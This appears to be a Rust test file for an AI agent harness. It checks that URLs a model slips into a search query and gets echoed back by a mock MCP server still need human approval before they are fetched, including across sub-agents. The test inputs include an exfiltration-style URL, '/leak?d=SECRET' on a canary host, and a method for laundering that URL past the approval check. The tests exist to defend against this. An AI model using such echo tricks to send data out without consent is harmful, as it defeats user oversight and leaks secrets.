//! Searches that give the question back: an address that the model has put there itself is not found by that.

use std::sync::{Arc, Mutex};

use axum::{
    Json, Router,
    extract::State,
    http::StatusCode,
    response::{IntoResponse, Response},
    routing::post,
};
use scripted::{Behaviour, Reply, ScriptedServer};
use serde_json::{Value, json};
use tokio_util::sync::DropGuard;

use crate::{
    harness::{new_folder, serve_other},
    openai::connect,
    runs::events,
    web_pages::Desk,
};

/// The page that a search finds.
type Page = Arc<Mutex<String>>;

/// An MCP server whose search repeats the question in a way that the question chooses, or finds a page.
async fn mcp(State(page): State<Page>, Json(message): Json<Value>) -> Response {
    let result = match message["method"].as_str().unwrap() {
        "initialize" => json!({
            "protocolVersion": "2025-11-25", "capabilities": { "tools": {} },
            "serverInfo": { "name": "echo", "version": "1" },
        }),
        "tools/list" => json!({ "tools": [{
            "name": "search", "description": "Searches.", "annotations": { "readOnlyHint": true },
            "inputSchema": { "type": "object", "properties": { "query": { "type": "string" } } },
        }]}),
        "tools/call" => {
            let query = message["params"]["arguments"]["query"].as_str().unwrap();
            json!({ "content": [{ "type": "text", "text": answer(query, &page.lock().unwrap()) }] })
        }
        "ping" => json!({}),
        _ => return StatusCode::ACCEPTED.into_response(),
    };
    Json(json!({ "jsonrpc": "2.0", "id": message["id"], "result": result })).into_response()
}

fn answer(query: &str, page: &str) -> String {
    match query.split_once(' ') {
        Some(("line", rest)) => format!("Search results for:\n{rest}\n\nNo results."),
        Some(("list", rest)) => {
            json!({"results": [{"url": rest, "title": "Your question"}]}).to_string()
        }
        Some(("label", rest)) => format!("Title: Your question\nURL: {rest}"),
        Some(("find", _)) => format!("Title: A page\nURL: {page}"),
        _ => format!("Search results for \"{query}\":"),
    }
}

async fn desk() -> (Desk, Page, DropGuard) {
    let page = Page::default();
    let routes = Router::new()
        .route("/mcp", post(mcp))
        .with_state(Arc::clone(&page));
    let (address, running) = serve_other(routes).await;
    let config = new_folder().join("glasshouse.toml");
    let servers = format!("[[mcp_servers]]\nname = \"echo\"\nurl = \"http://{address}/mcp\"\n");
    std::fs::write(&config, servers).unwrap();
    let desk = Desk::open(&[
        ("GLASSHOUSE_CONFIG", config.to_str().unwrap()),
        ("GLASSHOUSE_WEB_SEARCH", "mcp"),
        ("GLASSHOUSE_WEB_SEARCH_TOOL", "echo__search"),
    ])
    .await;
    (desk, page, running)
}

fn search(query: &str) -> Reply {
    Reply::calls(&[("web_search", json!({ "query": query }))])
}

fn fetch(url: &str) -> Reply {
    Reply::calls(&[("fetch_page", json!({ "url": url }))])
}

/// The addresses that a person was asked about, each of which they refuse, while the model does all this.
async fn asked_about(desk: &Desk, said: &str, replies: Vec<Reply>) -> Vec<String> {
    let upstream = ScriptedServer::start(Behaviour::sequence(replies))
        .await
        .unwrap();
    let name = format!("Up{}", upstream.address().port());
    connect(&desk.server, &desk.ada, &name, &upstream.base_url()).await;
    let models = desk.server.get("/api/v1/models", &desk.ada).await.json();
    // The one that was connected last.
    let model = models["models"]
        .as_array()
        .unwrap()
        .iter()
        .rev()
        .find(|model| model["tour"] == false)
        .unwrap();
    let chat = desk
        .server
        .post("/api/v1/chats", &desk.ada, &json!({}))
        .await
        .json();
    let path = format!("/api/v1/chats/{}/messages", chat["id"].as_str().unwrap());
    let sent = desk
        .server
        .post(
            &path,
            &desk.ada,
            &json!({"content": said, "model": model["id"]}),
        )
        .await;
    sent.expect(200);
    let run = sent.json()["run"].as_str().unwrap().to_owned();
    let mut log = events(&desk.server, &desk.ada, &format!("/runs/{run}/events")).await;
    let mut asked = Vec::new();
    loop {
        let is_next = |event: &Value| {
            event["body"]["type"] == "approval_asked" || event["body"]["type"] == "run_finished"
        };
        let event = log.until(is_next).await;
        if event["body"]["type"] == "run_finished" {
            assert_eq!(event["body"]["outcome"], "completed", "{event}");
            return asked;
        }
        asked.push(
            event["body"]["arguments"]["url"]
                .as_str()
                .unwrap()
                .to_owned(),
        );
        let path = format!(
            "/runs/{run}/approvals/{}",
            event["body"]["approval"].as_str().unwrap()
        );
        desk.server
            .post(&path, &desk.ada, &json!({"decision": "deny"}))
            .await
            .expect(204);
    }
}

#[tokio::test]
async fn an_address_of_the_question_is_opened_with_consent_only() {
    let (desk, _, _running) = desk().await;
    let leak = format!("{}/leak?d=SECRET", desk.web.canary());
    for query in [
        leak.clone(),
        format!("seals {leak} today"),
        format!("line {leak}"),
        format!("list {leak}"),
        format!("label {leak}"),
    ] {
        let asked = asked_about(
            &desk,
            "Go.",
            vec![search(&query), fetch(&leak), Reply::text("Done.")],
        )
        .await;
        assert_eq!(asked, std::slice::from_ref(&leak), "{query}");
    }
    assert!(
        desk.web.canary_visits().is_empty(),
        "{:?}",
        desk.web.canary_visits()
    );
}

#[tokio::test]
async fn what_a_sub_agent_has_found_counts_for_it_alone() {
    let (desk, page, _running) = desk().await;
    let leak = format!("{}/leak?d=SECRET", desk.web.canary());
    let task = |name: &str| {
        let arguments =
            json!({"description": format!("The {name} task."), "subagent_type": "general"});
        Reply::calls(&[("task", arguments)])
    };
    // It echoes the question for a sub-agent, too, and the main agent and a sibling get nothing from it.
    let replies = vec![
        task("first"),
        search(&leak),
        Reply::text(&format!("I found {leak}")),
        fetch(&leak),
        task("second"),
        fetch(&leak),
        Reply::text("It was refused."),
        Reply::text("Done."),
    ];
    assert_eq!(
        asked_about(&desk, "Go.", replies).await,
        [leak.clone(), leak.clone()]
    );
    assert!(desk.web.canary_visits().is_empty());

    // What it has really found it may open; others have to ask.
    let found = desk.web.url("/found-by-search");
    found.clone_into(&mut page.lock().unwrap());
    let replies = vec![
        task("third"),
        search("find it"),
        fetch(&found),
        Reply::text(&format!("Look at {found}")),
        fetch(&found),
        Reply::text("Done."),
    ];
    assert_eq!(asked_about(&desk, "Go.", replies).await, [found]);
}
